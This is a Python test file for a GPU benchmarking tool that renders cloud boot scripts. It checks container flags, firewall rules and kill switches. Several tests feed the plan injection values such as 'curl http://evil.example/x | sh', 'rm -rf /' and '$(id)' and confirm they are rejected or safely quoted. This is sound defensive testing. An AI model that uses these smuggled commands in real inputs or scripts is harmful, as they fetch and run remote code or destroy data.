"""User-data per GPU family and stack: the flags that matter, and hostile plan values that cannot run."""

from __future__ import annotations

import copy
import shlex
import subprocess

import pytest

from bakeoff.plan import PlanError, load_plan, plan_from_dict
from bakeoff.serving import userdata
from tests.stub_host import StubHost, docker_argv

KEY = "bk-" + "0123456789abcdef" * 2 + "01234567"


def target(provider="aws", **changes):
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    t = copy.deepcopy(next(x for x in raw["targets"] if x["provider"] == provider))
    t.update(changes)
    raw["targets"] = [t]
    return plan_from_dict(raw).targets[0]


def docker_words(script: str) -> list[str]:
    line = next(x for x in script.splitlines() if x.startswith("docker run "))
    return shlex.split(line)


def flag(words: list[str], name: str) -> str:
    assert words.count(name) == 1, f"{name} appears {words.count(name)} times"
    return words[words.index(name) + 1]


def render(t, cidr="203.0.113.7/32"):
    return userdata.render(t, api_key=KEY, shutdown_after_s=2 * 3600, ingress_cidr=cidr)


def test_vllm_on_mi355x_uses_rocm_image_devices_and_aiter():
    s = render(target("vultr"))
    w = docker_words(s)
    assert "vllm/vllm-openai-rocm:v0.22.0" in w and w[w.index("--entrypoint") + 1] == "vllm"
    assert {"/dev/kfd", "/dev/dri"} <= set(w) and "seccomp=unconfined" in w and "--gpus" not in w
    assert flag(w, "--tensor-parallel-size") == "8" and flag(w, "--quantization") == "fp8"
    assert flag(w, "--kv-cache-dtype") == "fp8" and flag(w, "--attention-backend") == "ROCM_AITER_UNIFIED_ATTN"
    assert flag(w, "--block-size") == "64" and flag(w, "--port") == "8000"
    assert "VLLM_ROCM_USE_AITER=1" in s and "HSA_NO_SCRATCH_RECLAIM=1" in s
    assert "--api-key" not in w and KEY not in " ".join(w)  # the key is on no command line
    assert w[w.index("/etc/bakeoff/key.env") - 1] == "--env-file"  # vLLM reads VLLM_API_KEY from it


def test_vllm_on_b200_uses_cuda_image_and_one_kv_flag():
    w = docker_words(render(target("aws")))
    assert "vllm/vllm-openai:v0.25.0" in w and flag(w, "--gpus") == "all" and "/dev/kfd" not in w
    assert flag(w, "--kv-cache-dtype") == "fp8"  # catalog's B200 recipe repeats it: kept once


def test_sglang_on_mi355x_and_b200():
    w = docker_words(render(target("vultr", stack="sglang", kv_cache_dtype="fp8")))
    assert "lmsysorg/sglang:v0.5.12-rocm700-mi35x" in w and w[w.index("--entrypoint") + 1] == "python3"
    assert w[w.index("python3") + 2 : w.index("python3") + 4] == ["-m", "sglang.launch_server"]
    assert flag(w, "--tp-size") == "8" and flag(w, "--kv-cache-dtype") == "fp8_e4m3"
    assert flag(w, "--attention-backend") == "aiter" and "--enable-metrics" in w
    w = docker_words(render(target("aws", stack="sglang", quantization="nvfp4", kv_cache_dtype="auto")))
    assert "lmsysorg/sglang:v0.5.12-cu130" in w and flag(w, "--quantization") == "modelopt_fp4"
    assert flag(w, "--kv-cache-dtype") == "auto"


def test_image_override_tensor_parallel_and_plan_args_win():
    t = target(
        "aws",
        image="registry.example.com:5000/team/vllm:nightly-2026",
        tensor_parallel=4,
        engine_args=["--max-num-seqs", "512"],
    )
    w = docker_words(render(t))
    assert "registry.example.com:5000/team/vllm:nightly-2026" in w and flag(w, "--tensor-parallel-size") == "4"
    assert flag(w, "--max-num-seqs") == "512"


def test_kill_switch_firewall_and_valid_bash():
    s = render(target("aws"))
    assert "shutdown -h +121 " in s
    assert "iptables -I INPUT -p tcp --dport 8000 -s 203.0.113.7/32 -j ACCEPT" in s
    assert "iptables -I INPUT -p tcp --dport 8000 -j DROP" in s
    subprocess.run(["bash", "-n"], input=s, text=True, check=True)
    assert userdata.shutdown_minutes(s) == 121 and userdata.api_key_from_userdata(s) == KEY
    assert userdata.target_from_userdata(s)["target"]["name"] == "b200-vllm"
    # the key appears once: in the heredoc of a root-only file, never in an echo or a command line
    assert s.count(KEY) == 1


@pytest.mark.parametrize(
    "field,value",
    [
        ("image", "vllm/vllm-openai:v1; curl http://evil.example/x | sh"),
        ("image", "vllm/vllm-openai:v1\ncurl evil | sh"),
        ("image", "vllm/vllm-openai:'v1'"),
        ("engine_args", ["--max-model-len", "8192\ncurl evil | sh"]),
        ("env", {"X; curl evil | sh": "1"}),
        ("env", {"OK": "1\nrm -rf /"}),
    ],
)
def test_hostile_values_are_rejected_naming_the_field(field, value):
    with pytest.raises(PlanError) as e:
        target("aws", **{field: value})
    assert f"targets[0].{field}" in str(e.value)


def test_hostile_provider_options_are_rejected():
    for opts in (
        {"ingress_cidr": "0.0.0.0/0; curl evil | sh"},
        {"regions": ["us-east-1; reboot"]},
        {"os_image": "ubuntu'$(id)"},
        {"ami": "ami-1234; sh"},
        {"inject_fault": "everything"},
    ):
        raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
        raw["targets"][1]["provider_options"].update(opts)
        with pytest.raises(PlanError, match=r"targets\[1\]\.provider_options\.\w+: "):
            plan_from_dict(raw)


def test_hostile_engine_arg_reaches_the_server_as_one_word(tmp_path):
    """An argument carrying '; curl … | sh' and quotes is quoted: docker receives it verbatim, nothing runs."""
    marker = tmp_path / "pwned"
    evil = f'--served-model-name=x\'; touch {marker}; echo "$(touch {marker})" | sh #'
    s = render(target("aws", engine_args=[evil]))
    line = next(x for x in s.splitlines() if x.startswith("docker run "))
    out = docker_argv(line, "BAKEOFF_API_KEY=k")
    assert evil in out and "k" not in out  # the key is no longer appended to the argv
    assert not marker.exists()


def test_ipv6_ingress_uses_ip6tables():
    s = render(target("aws"), cidr="2001:db8::/48")
    assert "ip6tables -I INPUT -p tcp --dport 8000 -s 2001:db8::/48 -j ACCEPT" in s
    assert "iptables -I INPUT -p tcp --dport 8000 -j DROP" in s


def test_without_ingress_cidr_ipv6_is_closed_too_and_the_firewall_fails_closed():
    s = render(target("aws"), cidr=None)
    assert "iptables -I INPUT -p tcp --dport 8000 ! -s 127.0.0.1 -j DROP" in s
    assert "ip6tables -I INPUT -p tcp --dport 8000 ! -s ::1 -j DROP" in s
    fw = s.index("iptables -I INPUT -p tcp --dport 8000")
    assert s.index("exit 1", fw) < s.index("docker run")  # a failed rule stops before any container


def _run_kill_switch(tmp_path, provider_target, docker_rc: int) -> list[str]:
    """Run the script's kill-switch section under bash, every command it calls stubbed to log its argv."""
    script = render(provider_target)
    lines = script.splitlines()
    start = next(i for i, x in enumerate(lines) if x.startswith(userdata.KILL_MARK))
    end = next(i for i, x in enumerate(lines) if x.startswith("# 2."))
    section = "\n".join(lines[start:end])
    host = StubHost(tmp_path)
    for name in ("sleep", "shutdown", "poweroff", "mkdir"):
        host.stub(name)
    host.stub("curl", "echo ocid1.instance.oc1.iad.node")
    host.stub("docker", f"exit {docker_rc}")
    host.run(section + "\nwait\n").check_returncode()
    return host.calls


@pytest.mark.parametrize("docker_rc", [0, 1])
def test_oci_kill_switch_deletes_its_own_instance_then_powers_off(tmp_path, docker_rc):
    """At expiry: the node's OCID from the metadata service, TerminateInstance as its instance principal,
    then power-off whatever the outcome (a failed self-delete leaves a stopped node for the reaper)."""
    t = load_plan("mi355x-vs-b200-oci-sandbox").targets[1]
    calls = _run_kill_switch(tmp_path, t, docker_rc)
    curl = next(c for c in calls if c.startswith("curl "))
    assert "Authorization: Bearer Oracle" in curl and "http://169.254.169.254/opc/v2/instance/id" in curl
    delete = next(i for i, c in enumerate(calls) if c.startswith("docker run") and "terminate_instance" in c)
    assert "InstancePrincipalsSecurityTokenSigner" in calls[delete] and calls[delete].endswith(
        "ocid1.instance.oc1.iad.node"
    )
    assert any(c == "sleep 7260" for c in calls[:delete])  # at the budgeted time, not before
    assert "poweroff" in [c.strip() for c in calls[delete + 1 :]]
    assert any(c.startswith("shutdown -h +126") for c in calls)  # and a later power-off timer as a backstop


def test_vultr_kill_switch_only_powers_off(tmp_path):
    """Vultr bills a stopped node: the independent reaper deletes it (the node holds no API key)."""
    calls = _run_kill_switch(tmp_path, target("vultr"), 0)
    assert calls == ["shutdown -h +121 bakeoff kill switch"]


def test_a_gpu_outside_the_catalog_gets_no_boot_script_and_the_error_names_the_field():
    from tests.providers.cloud_helpers import described

    t = described().targets[0]  # RTX 6000 Ada, described in the plan: no catalog platform to pick an image by
    assert type(t.gpu).__name__ == "DescribedGpu"
    with pytest.raises(ValueError, match=rf"targets\.{t.name}\.instance_type: a launched node needs a catalog"):
        userdata.image_for(t)


def _agent_run_words(script: str) -> list[str]:
    """The agent container's ``docker run`` words (the line and its continuation, up to the image)."""
    lines = script.splitlines()
    i = next(n for n, x in enumerate(lines) if x.strip().startswith(f"docker run -d --name {userdata.AGENT_CONTAINER}"))
    text = "\n".join(lines[i : i + 3]).replace("\\\n", " ")
    return shlex.split(text.split(" sh -c ", 1)[0])


AGENT = {"url": "https://bucket.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}


def test_the_agent_opens_the_nvidia_gpus_for_nvml_only():
    script = userdata.render(
        target("aws"), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=AGENT
    )
    words = _agent_run_words(script)
    assert flag(words, "--gpus") == "all"
    # the driver's utility capability: libnvidia-ml and nvidia-smi are mounted, no CUDA library is
    assert flag(words, "-e") == "NVIDIA_DRIVER_CAPABILITIES=utility"
    for wider in ("--ipc=host", "--privileged", "seccomp=unconfined", "/dev/kfd"):
        assert wider not in words
    assert "--gpu-vendor nvidia" in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


def test_the_agent_opens_the_amd_gpus_and_reads_rocm_read_only():
    script = userdata.render(
        target("vultr"), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=AGENT
    )
    words = _agent_run_words(script)
    devices = [words[i + 1] for i, w in enumerate(words) if w == "--device"]
    assert devices == ["/dev/kfd", "/dev/dri"]
    # ROCm's own amdsmi package (with the node's libamd_smi beside it) is read from the host's install, never written
    assert words[words.index("/opt/rocm:/opt/rocm:ro") - 1] == "-v"
    for wider in ("--ipc=host", "--privileged", "seccomp=unconfined", "--gpus"):
        assert wider not in words
    assert "--gpu-vendor amd" in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


def test_an_unknown_vendor_gets_no_device_flags():
    assert userdata.agent_gpu_flags(None) == () and userdata.agent_gpu_flags("intel") == ()
